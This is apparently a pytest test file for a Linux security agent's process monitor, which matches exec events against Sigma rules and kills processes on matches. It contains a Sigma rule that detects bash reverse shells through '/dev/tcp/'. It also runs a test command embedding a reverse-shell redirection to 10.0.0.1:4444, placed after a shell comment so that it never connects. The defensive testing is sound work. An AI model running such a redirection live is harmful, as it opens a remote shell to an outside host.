"""
Process execution monitoring: exec events from the netlink process
connector, enriched from /proc, matched against the content's Sigma
process rules; `action: kill` kills the process.
"""

import json
import os
import shutil
import subprocess
import time

import pytest

from agentlib import DEFAULT_SRC, Agent, Keys, read_journal, wait_events

KILL_RULE = """title: Test reverse shell, killed
id: 11111111-2222-3333-4444-555555555555
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        Image|endswith: '/bash'
        CommandLine|contains|all:
            - ' -c '
            - '/dev/tcp/'
    condition: selection
level: critical
action: kill
"""

ALERT_RULE = """title: Test marker command
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        CommandLine|contains: 'ward-procmon-marker'
        ParentImage|endswith: '/bash'
    condition: selection
level: low
"""


@pytest.fixture
def agent(ward, tmp_path):
    if os.geteuid() != 0:
        pytest.fail("the process monitoring tests run as root (make check runs them so)",
                    pytrace=False)
    keys = Keys(ward, str(tmp_path / "keys"))
    rel = keys.make("release")
    src = tmp_path / "src"
    shutil.copytree(DEFAULT_SRC, src)
    (src / "process" / "kill.yml").write_text(KILL_RULE)
    (src / "process" / "alert.yml").write_text(ALERT_RULE)
    data = json.loads((src / "bundle.json").read_text())
    data["process_rules"] += ["process/kill.yml", "process/alert.yml"]
    (src / "bundle.json").write_text(json.dumps(data))
    b = str(tmp_path / "b.wbundle")
    p = ward.run("content", "build", src, "-o", b)
    assert p.returncode == 0, p.stderr
    assert "3 process rules" in p.stderr
    assert ward.run("content", "sign", b, "--key", rel[0]).returncode == 0
    d = tmp_path / "agent"
    d.mkdir()
    a = Agent(ward, d, [rel[1]]).start()
    assert a.apply(b).returncode == 0
    yield a
    a.stop()


def test_kill_rule_kills(agent):
    st = agent.status()["sensors"]["procmon"]
    assert st["state"] == "on"
    t0 = time.time()
    # bash keeps its command line (it forks sleep rather than exec'ing it),
    # so the sensor reads it however late it looks; the orphaned sleep ends
    # by itself within 2 s.
    p = subprocess.run(["bash", "-c", "sleep 2; true # >& /dev/tcp/10.0.0.1/4444"], timeout=30)
    assert p.returncode == -9, "the reverse shell should have been killed"
    assert time.time() - t0 < 5
    killed = wait_events(agent, "process-killed")[0]
    assert killed["event"]["outcome"] == "success"
    assert killed["rule"]["name"] == "Test reverse shell, killed"
    matched = [e for e in wait_events(agent, "process-rule-matched")
               if e["rule"]["name"] == "Test reverse shell, killed"][0]
    assert matched["event"]["kind"] == "alert"
    assert matched["process"]["executable"].endswith("/bash")
    assert "/dev/tcp/10.0.0.1/4444" in matched["process"]["command_line"]
    assert matched["process"]["parent"]["pid"] == os.getpid()
    assert matched["user"]["name"] == "root"
    assert matched["ward"]["rule"]["action"] == "kill"
    assert matched["rule"]["id"] == "11111111-2222-3333-4444-555555555555"
    # The default content's own rule (alert only) matched the same process.
    assert any(e["rule"]["name"].startswith("Reverse shell through")
               and e["process"]["pid"] == matched["process"]["pid"]
               for e in wait_events(agent, "process-rule-matched", 2))
    assert agent.status()["sensors"]["procmon"]["counters"]["killed"] >= 1


def test_alert_rule_only_alerts(agent):
    # A subshell forked by bash runs sleep as "ward-procmon-marker 1": its
    # parent is bash and it lives long enough to be read from /proc (a
    # process that is gone first yields a partial event, which may miss).
    p = subprocess.run(["bash", "-c", "(exec -a ward-procmon-marker /bin/sleep 1); true"],
                       timeout=30)
    assert p.returncode == 0
    ev = [e for e in wait_events(agent, "process-rule-matched")
          if e["rule"]["name"] == "Test marker command"][0]
    assert ev["process"]["executable"].endswith("/sleep")
    assert ev["process"]["command_line"] == "ward-procmon-marker 1"
    assert ev["process"]["parent"]["executable"].endswith("/bash")
    assert "ward-procmon-marker" in ev["process"]["parent"]["command_line"]
    assert ev["ward"]["rule"]["action"] == "alert"
    assert not [e for _, e in read_journal(agent.state) if e["event"]["action"] == "process-killed"]
